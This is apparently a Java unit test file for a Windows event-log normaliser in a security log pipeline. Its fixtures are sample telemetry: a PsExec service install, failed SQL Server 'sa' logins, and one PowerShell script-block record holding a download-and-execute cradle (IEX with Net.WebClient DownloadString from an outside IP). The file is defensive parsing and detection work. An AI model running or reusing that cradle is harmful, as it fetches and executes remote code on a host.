package org.vigil.event;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.vigil.event.WindowsRecords.ECS_TOPIC;
import static org.vigil.event.WindowsRecords.WINDOWS_TOPIC;
import static org.vigil.event.WindowsRecords.deadLetter;
import static org.vigil.event.WindowsRecords.event;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class WindowsEventNormaliserTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    /** Characters that turn a record into plausible but broken structure rather than invalid JSON. */
    private static final String MANGLING = "{}[]\\\":,-0x ";

    // evtx_dump --separate-json-attributes: attributes in sibling "<element>_attributes" objects.
    private static final String SERVICE_INSTALLED_7045 = """
            {"Event":{"Event_attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},
             "System":{"Provider":"","Provider_attributes":{"Name":"Service Control Manager",
                        "Guid":"{555908d1-a6d7-4695-8e1e-26931d2012f4}","EventSourceName":"Service Control Manager"},
              "EventID":7045,"EventID_attributes":{"Qualifiers":16384},"Version":0,"Level":4,"Task":0,
              "Keywords":"0x8080000000000000","TimeCreated":"",
              "TimeCreated_attributes":{"SystemTime":"2026-03-02T08:05:00.000000Z"},"EventRecordID":8812,
              "Execution":"","Execution_attributes":{"ProcessID":712,"ThreadID":3320},"Channel":"System",
              "Computer":"FS01.gov.example","Security":"","Security_attributes":{"UserID":"S-1-5-21-1-2-3-500"}},
             "EventData":{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe",
              "ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}
            """;

    private static final String MSSQL_NXLOG = """
            {"EventTime":"2026-03-02 08:10:00","Hostname":"SQL01.gov.example","Keywords":36028797018963968,
             "EventType":"AUDIT_FAILURE","SeverityValue":4,"Severity":"ERROR","EventID":18456,
             "SourceName":"MSSQLSERVER","Task":4,"RecordNumber":77120,"ProcessID":0,"ThreadID":0,
             "Channel":"Application","Category":"Logon",
             "Message":"Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 203.0.113.50]",
             "EventReceivedTime":"2026-03-02 08:10:01","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}
            """;

    // golang-evtx: plain attributes, EventID with "Value", unnamed insertion strings.
    private static final String MSSQL_GOLANG_EVTX = """
            {"Event":{"EventData":{"Binary":"184800000E0000000A000000530051004C00300031000000",
              "Data":["sa","Reason: Password did not match that for the login provided.","[CLIENT: 203.0.113.50]"]},
             "System":{"Channel":"Application","Computer":"SQL01.gov.example",
              "EventID":{"Qualifiers":"49152","Value":"18456"},"EventRecordID":"77120",
              "Keywords":"0x90000000000000","Level":"0","Provider":{"Name":"MSSQLSERVER"},"Task":"4",
              "TimeCreated":{"SystemTime":"2026-03-02T08:10:00.4453720Z"}}}}
            """;

    private static final String UNKNOWN_4663 = """
            {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},
              "EventID":{"#attributes":{"Qualifiers":""},"#text":"4663"},
              "TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T11:00:00Z"}},
              "Channel":"Security","Computer":"FS01"},
             "EventData":{"SubjectUserName":"bob","ObjectName":"D:\\Shares\\HR\\salaries.xlsx",
              "AccessMask":"0x1","ProcessName":"C:\\Windows\\explorer.exe"}}}
            """;

    @Test
    void serviceInstalledFromSeparateAttributes() {
        SecurityEvent e = event(SERVICE_INSTALLED_7045);

        assertThat(e.timestamp()).isEqualTo(Instant.parse("2026-03-02T08:05:00Z"));
        assertThat(e.get("winlog.channel")).isEqualTo("System");
        assertThat(e.get("winlog.provider_name")).isEqualTo("Service Control Manager");
        assertThat(e.get("event.dataset")).isEqualTo("windows.system");
        assertThat(e.get("event.module")).isEqualTo("windows");
        assertThat(e.get("event.action")).isEqualTo("service-installed");
        assertThat(e.get("service.name")).isEqualTo("PSEXESVC");
        assertThat(e.get("process.executable")).isEqualTo("%SystemRoot%\\PSEXESVC.exe");
        assertThat(e.get("process.name")).isEqualTo("PSEXESVC.exe");
        assertThat(e.get("winlog.user.identifier")).isEqualTo("S-1-5-21-1-2-3-500");
        assertThat(e.get("winlog.process.pid")).isEqualTo("712");
        assertThat(e.get("host.name")).isEqualTo("fs01.gov.example");
    }

    @Test
    void quotedServiceImagePathKeepsItsArgumentsInTheCommandLine() {
        String json = WindowsRecords.json(SERVICE_INSTALLED_7045).replace("%SystemRoot%\\\\PSEXESVC.exe",
                "\\\"C:\\\\Program Files\\\\Updater\\\\upd.exe\\\" -k netsvcs");
        SecurityEvent e = WindowsRecords.parseJson(json, WINDOWS_TOPIC).event();

        assertThat(e.get("process.executable")).isEqualTo("C:\\Program Files\\Updater\\upd.exe");
        assertThat(e.get("process.name")).isEqualTo("upd.exe");
        assertThat(e.get("process.command_line")).isEqualTo("\"C:\\Program Files\\Updater\\upd.exe\" -k netsvcs");
    }

    @Test
    void sqlServerLoginFailedFromTheMessageText() {
        SecurityEvent e = event(MSSQL_NXLOG);

        assertThat(e.get("event.category")).isEqualTo(List.of("authentication"));
        assertThat(e.get("event.outcome")).isEqualTo("failure");
        assertThat(e.get("event.action")).isEqualTo("logon-failed");
        assertThat(e.get("user.name")).isEqualTo("sa");
        assertThat(e.get("source.ip")).isEqualTo("203.0.113.50");
        assertThat(e.get("event.dataset")).isEqualTo("windows.application");
        assertThat(e.get("event.provider")).isEqualTo("MSSQLSERVER");
        assertThat(e.get("winlog.record_id")).isEqualTo("77120");
        assertThat(e.get("message")).asString().startsWith("Login failed for user 'sa'.");
    }

    @Test
    void sqlServerLoginFailedFromInsertionStrings() {
        SecurityEvent e = event(MSSQL_GOLANG_EVTX);

        assertThat(e.timestamp()).isEqualTo(Instant.parse("2026-03-02T08:10:00.445Z"));
        assertThat(e.get("winlog.event_id")).isEqualTo(18456L);
        assertThat(e.get("user.name")).isEqualTo("sa");
        assertThat(e.get("source.ip")).isEqualTo("203.0.113.50");
        assertThat(e.get("winlog.event_data.param3")).isEqualTo("[CLIENT: 203.0.113.50]");
        assertThat(e.get("winlog.event_data.Binary")).asString().startsWith("1848");
    }

    @Test
    void unknownEventIdsKeepTheGenericFieldsAndTheirEventData() {
        SecurityEvent e = event(UNKNOWN_4663);

        assertThat(e.get("winlog.event_id")).isEqualTo(4663L);
        assertThat(e.get("event.code")).isEqualTo("4663");
        assertThat(e.get("event.kind")).isEqualTo("event");
        assertThat(e.get("event.module")).isEqualTo("windows");
        assertThat(e.get("host.name")).isEqualTo("fs01");
        assertThat(e.get("host.os.family")).isEqualTo("windows");
        assertThat(e.get("winlog.event_data.ObjectName")).isEqualTo("D:\\Shares\\HR\\salaries.xlsx");
        assertThat(e.fields()).doesNotContainKeys("event.category", "event.action", "user.name");
    }

    @Test
    void otherChannelsGetTheirOwnDataset() {
        SecurityEvent e = event("""
                {"EventTime":"2026-03-02T12:00:00Z","Hostname":"WS-042","EventID":4104,
                 "SourceName":"Microsoft-Windows-PowerShell","Channel":"Microsoft-Windows-PowerShell/Operational",
                 "ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"}
                """);

        assertThat(e.get("event.dataset")).isEqualTo("windows.powershell_operational");
        assertThat(e.get("winlog.channel")).isEqualTo("Microsoft-Windows-PowerShell/Operational");
        assertThat(e.get("winlog.event_data.ScriptBlockText")).asString().startsWith("IEX");
    }

    @Test
    void dashesAndBlanksAreAbsentInMappedFields() {
        SecurityEvent e = event("""
                {"EventTime":"2026-03-02 08:00:00","Hostname":"DC01","EventID":4624,
                 "SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","TargetUserName":"alice",
                 "TargetDomainName":"-","IpAddress":"-","IpPort":"-","WorkstationName":" ","LogonType":"-"}
                """);

        assertThat(e.get("user.name")).isEqualTo("alice");
        assertThat(e.fields()).doesNotContainKeys("user.domain", "source.ip", "source.port", "source.domain",
                "winlog.logon.type");
    }

    @Test
    void loopbackAddressesAreKept() {
        SecurityEvent v4 = event(SecurityAuditMappingTest.FAILED_4625.replace("::ffff:203.0.113.7", "127.0.0.1"));
        SecurityEvent v6 = event(SecurityAuditMappingTest.FAILED_4625.replace("::ffff:203.0.113.7", "::1"));

        assertThat(v4.get("source.ip")).isEqualTo("127.0.0.1");
        assertThat(v6.get("source.ip")).isEqualTo("::1");
    }

    @Test
    void combinedDomainAndUserAreSplit() {
        SecurityEvent e = event("""
                {"EventTime":"2026-03-02 08:00:00","Hostname":"WS-042","EventID":5,
                 "SourceName":"Microsoft-Windows-Sysmon","Channel":"microsoft-windows-sysmon/operational",
                 "ProcessId":"6700","Image":"C:\\Windows\\System32\\cmd.exe","User":"NT AUTHORITY\\SYSTEM"}
                """);

        assertThat(e.get("user.name")).isEqualTo("SYSTEM");
        assertThat(e.get("user.domain")).isEqualTo("NT AUTHORITY");
        assertThat(e.get("winlog.channel")).isEqualTo("Microsoft-Windows-Sysmon/Operational");
        assertThat(e.get("event.type")).isEqualTo(List.of("end"));
    }

    @Test
    void detectsAllThreeShapesWithoutTakingOtherFormats() throws Exception {
        assertThat(detect(SERVICE_INSTALLED_7045)).isEqualTo(EventFormat.WINDOWS);
        assertThat(detect(MSSQL_NXLOG)).isEqualTo(EventFormat.WINDOWS);
        assertThat(detect(MSSQL_GOLANG_EVTX)).isEqualTo(EventFormat.WINDOWS);
        assertThat(detect("{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"winlog\":{\"event_id\":4625}}"))
                .isEqualTo(EventFormat.WINDOWS);
        assertThat(detect("{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"winlog.event_id\":4625}"))
                .isEqualTo(EventFormat.WINDOWS);
        assertThat(detect("{\"eventid\":4625,\"channel\":\"security\",\"eventtime\":\"2026-03-02 08:00:00\"}"))
                .isEqualTo(EventFormat.WINDOWS);
        // Look-alikes stay what they are.
        assertThat(detect("{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"event\":{\"code\":\"4625\"},\"Channel\":\"x\"}"))
                .isEqualTo(EventFormat.ECS_JSON);
        assertThat(detect("{\"timestamp\":\"2026-03-02T08:00:00Z\",\"event_type\":\"alert\",\"EventID\":1,"
                + "\"Channel\":\"x\"}")).isEqualTo(EventFormat.SURICATA_EVE);
        assertThat(detect("{\"EventID\":4625,\"Message\":\"no channel or source\"}")).isNull();
        assertThat(detect("{\"System\":{\"Computer\":\"dc01\"}}")).isNull();
    }

    @Test
    void winlogbeatOnAnEcsTopicGetsTheWindowsMappingToo() {
        String record = """
                {"@timestamp":"2026-03-02T08:00:00Z","event":{"category":["authentication"],"outcome":"failure"},
                 "winlog":{"channel":"Security","event_id":"4625","provider_name":"Microsoft-Windows-Security-Auditing",
                  "event_data":{"TargetUserName":"administrator","IpAddress":"::ffff:203.0.113.7"}}}
                """;
        SecurityEvent onEcs = event(record, ECS_TOPIC);

        assertThat(onEcs).isEqualTo(event(record, WINDOWS_TOPIC));
        assertThat(onEcs.get("source.ip")).isEqualTo("203.0.113.7");
        assertThat(onEcs.get("event.action")).isEqualTo("logon-failed");
        assertThat(onEcs.get("event.category")).isEqualTo(List.of("authentication"));
    }

    @Test
    void windowsTopicRefusesOtherFormats() {
        assertThat(deadLetter("{\"@timestamp\":\"2026-03-02T08:00:00Z\",\"event\":{\"kind\":\"event\"}}",
                WINDOWS_TOPIC).reason()).isEqualTo(DeadLetterReason.UNKNOWN_FORMAT);
        assertThat(deadLetter("{\"EventTime\":\"2026-03-02 08:00:00\",\"SourceName\":\"Foo\",\"EventID\":null}",
                WINDOWS_TOPIC).reason()).isEqualTo(DeadLetterReason.UNKNOWN_FORMAT);
    }

    @Test
    void missingOrBadTimesAreDeadLettered() {
        String noTime = SERVICE_INSTALLED_7045.replace("\"TimeCreated_attributes\":{\"SystemTime\":"
                + "\"2026-03-02T08:05:00.000000Z\"},", "");
        assertThat(deadLetter(noTime, WINDOWS_TOPIC).reason()).isEqualTo(DeadLetterReason.MISSING_TIMESTAMP);
        assertThat(deadLetter(MSSQL_NXLOG.replace("\"2026-03-02 08:10:00\"", "\"yesterday\""), WINDOWS_TOPIC)
                .reason()).isEqualTo(DeadLetterReason.BAD_TIMESTAMP);
        assertThat(deadLetter(MSSQL_NXLOG.replace("\"EventTime\":\"2026-03-02 08:10:00\",", ""), WINDOWS_TOPIC)
                .reason()).isEqualTo(DeadLetterReason.MISSING_TIMESTAMP);
        assertThat(deadLetter(MSSQL_GOLANG_EVTX.replace("2026-03-02T08:10", "1970-01-01T00:00"), WINDOWS_TOPIC)
                .reason()).isEqualTo(DeadLetterReason.BAD_TIMESTAMP);
    }

    @Test
    void badFieldsNameTheField() {
        DeadLetter id = deadLetter(UNKNOWN_4663.replace("\"#text\":\"4663\"", "\"#text\":\"46x3\""), WINDOWS_TOPIC);
        DeadLetter port = deadLetter(SecurityAuditMappingTest.FAILED_4625.replace("\"51234\"", "\"ssh\""),
                WINDOWS_TOPIC);

        assertThat(id.reason()).isEqualTo(DeadLetterReason.BAD_FIELD);
        assertThat(id.message()).contains("winlog.event_id");
        assertThat(port.reason()).isEqualTo(DeadLetterReason.BAD_FIELD);
        assertThat(port.message()).contains("source.port");
    }

    @Test
    void mangledRecordsNeverHitANormaliserBug() {
        Random random = new Random(11L);
        for (String record : List.of(SecurityAuditMappingTest.LOGON_4624, MSSQL_NXLOG, MSSQL_GOLANG_EVTX,
                SERVICE_INSTALLED_7045)) {
            byte[] good = WindowsRecords.json(record).getBytes(UTF_8);
            for (int i = 0; i < 1500; i++) {
                byte[] value = Arrays.copyOf(good, good.length - random.nextInt(good.length / 4 + 1));
                for (int flips = random.nextInt(4); flips > 0; flips--) {
                    value[random.nextInt(value.length)] = (byte) MANGLING.charAt(random.nextInt(MANGLING.length()));
                }
                ParseResult result = WindowsRecords.parseJson(new String(value, UTF_8), WindowsRecords.MIXED_TOPIC);
                if (!result.isEvent()) {
                    assertThat(result.deadLetter().reason()).as(new String(value, UTF_8))
                            .isNotEqualTo(DeadLetterReason.NORMALISER_ERROR);
                }
            }
        }
    }

    private static EventFormat detect(String json) throws Exception {
        return EventParser.detect(JSON.readTree(WindowsRecords.json(json)));
    }
}
